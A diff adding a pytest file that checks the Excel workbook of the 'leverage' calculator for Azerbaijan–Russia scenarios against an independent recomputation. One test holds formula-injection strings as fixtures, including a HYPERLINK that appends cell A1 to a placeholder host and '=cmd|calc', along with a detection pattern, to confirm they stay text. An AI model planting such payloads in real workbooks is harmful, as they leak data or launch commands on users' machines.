@@ -1,0 +1,326 @@
+"""The workbook of `leverage show`, computed anew by a spreadsheet that is not ours, and held against the program."""
+
+import math
+import os
+import re
+import sys
+import time
+import zipfile
+from collections.abc import Mapping
+from functools import cache
+from io import BytesIO
+from pathlib import Path
+from types import MappingProxyType
+from typing import Any, NamedTuple
+
+import pytest
+
+from leverage import library
+from leverage.assessment import Assessment, assess_named
+from leverage.formats import Page, load
+from leverage.model import WhatIf
+from leverage.report.ledger import Ledger
+from leverage.report.show import show
+from leverage.report.workbook.names import Names
+from tests import engines
+from tests.program import Done, run
+
+pytest.importorskip("xlsxwriter")
+STRANGE = str(Path(__file__).parent / "workbooks" / "strange.yaml")
+BASE = "azerbaijan-russia"
+SINKING = WhatIf(sets=("remittances.migrant_output=1 billion USD/year", "diverted=12.5%"))
+
+
+class Case(NamedTuple):
+    """A scenario changed as asked, and what is then typed into its workbook: `to` is how the program is told that."""
+
+    scenario: str
+    asked: WhatIf = WhatIf()
+    typed: Mapping[str, float | str] = MappingProxyType({})
+    to: WhatIf | None = None
+
+
+CASES: dict[str, Case] = {
+    **{name.partition("/")[2]: Case(name) for name in library.bundled()},
+    "strange": Case(STRANGE),
+    "set": Case(BASE, SINKING),
+    "only": Case(BASE, WhatIf(only=("avdaliani",))),
+    "use": Case(BASE, WhatIf(use=("boehm",))),
+    "only_strange": Case(STRANGE, WhatIf(only=("good",))),
+    # What is typed into an input is what --set does with the same value.
+    "typed": Case(
+        BASE,
+        typed={"diverted": 0.5, "novorossiysk_flow.article": 30_000, "azerbaijan.gdp": 78, "oil_price": 60},
+        to=WhatIf(
+            sets=(
+                "diverted=50%", "novorossiysk_flow.article=30_000 bbl/day", "azerbaijan.gdp=78 billion USD/year",
+                "oil_price=60 USD/bbl",
+            ),
+        ),
+    ),
+    "chosen": Case(
+        BASE,
+        typed={"elasticity": "boehm", "gas_flow_to_iran": "first_stage", "azerbaijan.exports": "implied"},
+        to=WhatIf(use=("elasticity=boehm", "gas_flow_to_iran=first_stage", "azerbaijan.exports=implied")),
+    ),
+    "grown": Case(
+        BASE, typed={"azerbaijan.gdp": 78}, to=WhatIf(sets=("azerbaijan.gdp=78 billion USD/year",))
+    ),
+    "moved": Case(
+        f"{BASE}/escalation",
+        typed={"move.transfers.cut": 0.8, "migrant_output_workers_stay": 2e9, "move.closure.duration": 0.5},
+        to=WhatIf(
+            sets=(
+                "move.transfers.cut=80%", "migrant_output_workers_stay=2 billion USD/year", "move.closure.for=6 months",
+            ),
+        ),
+    ),
+    # The whole cut is now for four months only, so that of the halves counts; one way of the other closes no circle.
+    "strange_typed": Case(
+        STRANGE,
+        typed={"move.whole.duration": 4, "c": 3.25, "rate": "other", "gift.migrant_output": 3e6, "flow": "daily"},
+        to=WhatIf(
+            sets=("move.whole.for=4 months", "c=3.25", "gift.migrant_output=3 million EUR/year"),
+            use=("rate=other", "flow=daily"),
+        ),
+    ),
+}  # fmt: skip
+
+
+@cache
+def _assessed(scenario: str, asked: WhatIf) -> Assessment:
+    return assess_named(scenario, asked)
+
+
+def _bytes(case: Case) -> bytes:
+    made = load("xlsx").render(show(Ledger(_assessed(case.scenario, case.asked))), Page())
+    assert isinstance(made, bytes)
+    return made
+
+
+def _typed(content: bytes, typed: Mapping[str, float | str]) -> bytes:
+    """Type into a workbook: a number into an input's value, a word into the choice of a reading."""
+    from openpyxl import load_workbook
+
+    if not typed:
+        return content
+    book = load_workbook(BytesIO(content))
+    rows = {row[0].value: row for row in book["Inputs"].rows}
+    for name, value in typed.items():
+        cell = rows[name][2 if isinstance(value, str) else 3]
+        assert cell.data_type != "f", name
+        cell.value = value
+    sink = BytesIO()
+    book.save(sink)
+    return sink.getvalue()
+
+
+@pytest.fixture(scope="module")
+def books() -> dict[str, bytes]:
+    """Return the workbook of every case, as the program writes it."""
+    return {name: _bytes(case) for name, case in CASES.items()}
+
+
+@pytest.fixture(scope="module")
+def found(books: dict[str, bytes], tmp_path_factory: pytest.TempPathFactory) -> dict[str, engines.Values]:
+    """Compute all of them anew, in one run, with what is typed into them."""
+    files = {name: _typed(books[name], case.typed) for name, case in CASES.items()}
+    return engines.recomputed(files, tmp_path_factory.mktemp("workbooks"))
+
+
+def _same(one: Any, other: Any) -> bool:
+    """Tell whether two cells hold the same: numbers to nine digits, nothing like an empty text."""
+    if isinstance(one, bool) or isinstance(other, bool):
+        return bool(one) == bool(other) and {type(one), type(other)} <= {bool, int, float}
+    if isinstance(one, int | float) and isinstance(other, int | float):
+        return math.isclose(one, other, rel_tol=1e-9, abs_tol=0)
+    return (one or "") == (other or "")
+
+
+def _numbers(values: engines.Values) -> dict[str, Any]:
+    """Return what stands in the workbook under each cell's name: in base units, on the sheets of inputs and steps."""
+    places = {"Inputs": "N", "Steps": "C"}
+    names = {(sheet, place[1:]): value for (sheet, place), value in values.items() if re.fullmatch("A[0-9]+", place)}
+    found = {}
+    for (sheet, row), name in names.items():
+        if sheet in places and isinstance(name, str):
+            found[name] = values.get((sheet, f"{places[sheet]}{row}"))
+    return found
+
+
+@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.to is None])
+def test_every_formula_comes_to_the_kept_number(name: str, books: dict[str, bytes], found: dict[str, Any]) -> None:
+    """Another engine comes to the number written beside each formula, which viewers show that do not compute."""
+    kept = engines.kept(books[name])
+    formulas = engines.live(books[name])
+    assert len(formulas) > 50
+    wrong = {
+        at: (text, kept[at], found[name].get(at))
+        for at, text in formulas.items()
+        if not _same(kept[at], found[name].get(at))
+    }
+    assert wrong == {}
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_every_cell_is_the_programs(name: str, found: dict[str, Any]) -> None:
+    """Under every cell's name stands the program's own number, also after something was typed into an input."""
+    case = CASES[name]
+    wanted = _assessed(case.scenario, case.to or case.asked).values
+    numbers = _numbers(found[name])
+    wrong = {
+        cell: (value.number, numbers.get(cell))
+        for cell, value in wanted.items()
+        if value.number is not None and not _same(value.number, numbers.get(cell)) and not cell.endswith(".set_by_hand")
+    }
+    assert wrong == {}
+    filled = {cell for cell in wanted if wanted[cell].number is None and numbers.get(cell) not in (None, "")}
+    assert filled == set()
+
+
+def test_results_follow(found: dict[str, Any]) -> None:
+    """The first sheet has the numbers in its own units, who loses more, and verdicts that turn with the inputs."""
+    chosen, before = _first_sheet(found["chosen"]), _first_sheet(found["base"])
+    # At an elasticity of 2 the buyer's loss is the invoice.
+    assert chosen["At stake", "Goods AZE → RUS"][4] == pytest.approx(1178)
+    assert chosen["At stake", "Goods RUS → AZE"][1] == pytest.approx(3621)
+    more = "Balance", "Ratio of the losses, Azerbaijan over Russia"
+    # 389 + 3,621 + 10 over 1,178 + 1,195 + 13, against 389 + 1,316 + 10 over 421 + 1,195 + 13
+    assert (before[more][0], chosen[more][0]) == (pytest.approx(1.05, abs=0.005), pytest.approx(1.685, abs=0.001))
+    assert (before[more][4], chosen[more][4]) == ("about the same", "Azerbaijan")
+    # 749 million of 74,316 million is 1.01 %, of 78,000 million 0.96 %.
+    limited = "Claims", "Moscow's leverage is limited, even with its named means used in full."
+    assert (before[limited][0], _first_sheet(found["grown"])[limited][0]) == ("fails", "holds")
+
+
+def _first_sheet(values: engines.Values) -> dict[tuple[str, str], list[Any]]:
+    """Return the rows of the results by the first words of their table's title and by their label."""
+    found, table = {}, ""
+    for row in range(1, 200):
+        label, *cells = (values.get(("Results", f"{column}{row}")) for column in "ABCDEFGH")
+        table = next((title for title in ("At stake", "Balance", "Claims") if str(label).startswith(title)), table)
+        found[table, str(label)] = cells
+    return found
+
+
+# The file.
+
+
+def test_hostile_text_stays_text(books: dict[str, bytes]) -> None:
+    """Nothing of a scenario's text is a formula, a link to anything but a web page, or a name."""
+    from openpyxl import load_workbook
+
+    book = load_workbook(BytesIO(books["strange"]))
+    cells = [cell for sheet in book for row in sheet.rows for cell in row]
+    hostile = [cell for cell in cells if cell.data_type == "s" and str(cell.value)[:1] in "=+-@"]
+    assert {'=HYPERLINK("http://example.org/"&A1,"click")', "@SUM(1+1)*cmd", "=cmd|calc", "=1=1"} <= {
+        cell.value for cell in hostile
+    }
+    running = [str(cell.value) for cell in cells if cell.data_type == "f"]
+    assert not [text for text in running if re.search("HYPERLINK|cmd|SUM|WEBSERVICE|click", text, re.IGNORECASE)]
+    assert {cell.hyperlink.target for cell in cells if cell.hyperlink} == {"https://example.org/a?b=%22=c"}
+    assert "Assumed: =cmd()" in {cell.comment.text for cell in cells if cell.comment}
+    with zipfile.ZipFile(BytesIO(books["strange"])) as parts:
+        everything = b"".join(parts.read(name) for name in parts.namelist())
+    assert b"\x1b" not in everything
+    assert "\ufffe".encode() not in everything
+
+
+def test_names(books: dict[str, bytes]) -> None:
+    """Names are made of ids, once each, and none is a place or a word of the spreadsheet's own."""
+    from openpyxl import load_workbook
+
+    names = list(load_workbook(BytesIO(books["strange"])).defined_names)
+    assert {"cell_tax2024", "cell_r1c1", "cell_c", "rate_low", "rate_low__2", "rate"} <= set(names)
+    assert len({name.lower() for name in names}) == len(names)
+    assert all(re.fullmatch("[a-z_][a-z0-9_]*", name) for name in names)
+
+
+@pytest.mark.parametrize(
+    ("cell", "name"),
+    [
+        ("loss.a.b", "loss_a_b"), ("a1", "cell_a1"), ("xfd1048576", "cell_xfd1048576"), ("r", "cell_r"),
+        ("c12", "cell_c12"), ("r1c1", "cell_r1c1"), ("rc", "cell_rc"), ("true", "cell_true"),
+        ("_xlnm.print", "cell__xlnm_print"), ("a1.b", "a1_b"), ("oil", "oil"), ("x" * 300, "x" * 200),
+    ],
+    ids=lambda value: value[:12],
+)  # fmt: skip
+def test_name(cell: str, name: str) -> None:
+    """What a spreadsheet would read as a place gets a word before it."""
+    assert Names().of(cell) == name
+
+
+def test_missing_is_empty(books: dict[str, bytes]) -> None:
+    """What is not valued is an empty cell with its reason beside it, never nothing; what is left out is named."""
+    kept = engines.kept(books["base"])
+    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Remittances RUS → AZE")
+    assert (kept["Results", f"F{row}"], kept["Results", f"G{row}"]) == (None, None)
+    assert kept["Results", f"H{row}"] == "Russia: not valued, needs remittances.migrant_output"
+    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Total, a static sum")
+    assert kept["Results", f"H{row}"] == "Russia: at least, without Remittances RUS → AZE"
+
+
+def test_emptied_input(books: dict[str, bytes], tmp_path: Path) -> None:
+    """An input that is emptied or is no number leaves no result standing on it."""
+    from openpyxl import load_workbook
+
+    files = {}
+    for word in ("empty", "no number"):
+        book = load_workbook(BytesIO(books["base"]))
+        cell = next(row[3] for row in book["Inputs"].rows if row[0].value == "diverted")
+        cell.value = None if word == "empty" else word
+        sink = BytesIO()
+        book.save(sink)
+        files[word] = sink.getvalue()
+    for values in engines.recomputed(files, tmp_path).values():
+        numbers = _numbers(values)
+        assert "#N/A" in str(numbers["loss.azerbaijan.goods_to_russia"])
+        assert "#N/A" in str(numbers["total.azerbaijan"])
+        assert numbers["loss.azerbaijan.remittances"] == pytest.approx(350e6)
+
+
+def test_same_bytes(tmp_path: Path) -> None:
+    """The file depends on the scenario alone, not on the clock."""
+    assert run("show", "-o", "one.xlsx", cwd=tmp_path) == Done(0, "", "")
+    time.sleep(2.1)  # times in a zip file count in steps of two seconds
+    assert run("show", "-f", "xlsx", "-o", "two.zip", cwd=tmp_path) == Done(0, "", "")
+    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.zip").read_bytes()
+
+
+def test_without_the_library(tmp_path: Path) -> None:
+    """One line that says what to install, exit 2, no file."""
+    (tmp_path / "xlsxwriter.py").write_text("raise ImportError", encoding="utf-8")
+    path = os.pathsep.join([str(tmp_path), str(Path(__file__).parent.parent)])
+    done = run("show", "-o", "x.xlsx", environment={"PYTHONPATH": path}, cwd=tmp_path)
+    assert done == Done(2, "", "A workbook needs XlsxWriter: pip install 'leverage-calculator[xlsx]'\n")
+    assert not (tmp_path / "x.xlsx").exists()
+
+
+def test_only_show_has_a_workbook(tmp_path: Path) -> None:
+    """Other commands say where the format belongs."""
+    done = run("compare", "-o", "x.xlsx", cwd=tmp_path)
+    assert done.status == 2
+    assert "'xlsx' is a format of `leverage show`" in " ".join(done.err.split())
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="there is no terminal to borrow")
+def test_no_bytes_to_a_terminal() -> None:
+    """A workbook is not printed on a terminal."""
+    import pty
+    import subprocess
+
+    ours, theirs = pty.openpty()
+    words = [sys.executable, "-m", "leverage", "show", "-f", "xlsx"]
+    done = subprocess.run(words, stdout=theirs, stderr=subprocess.PIPE, check=False, timeout=60)
+    os.close(theirs)
+    os.close(ours)
+    assert done.returncode == 2
+    assert b"name a file with --output" in done.stderr
+
+
+def test_unit(tmp_path: Path) -> None:
+    """Money in the unit asked for, kept so for those who do not compute."""
+    assert run("show", "-o", "x.xlsx", "--unit", "billion USD/year", cwd=tmp_path) == Done(0, "", "")
+    kept = engines.kept((tmp_path / "x.xlsx").read_bytes())
+    row = next(at[1:] for (sheet, at), value in kept.items() if sheet == "Results" and value == "Goods AZE → RUS")
+    assert kept["Results", f"B{row}"] == pytest.approx(1.178)
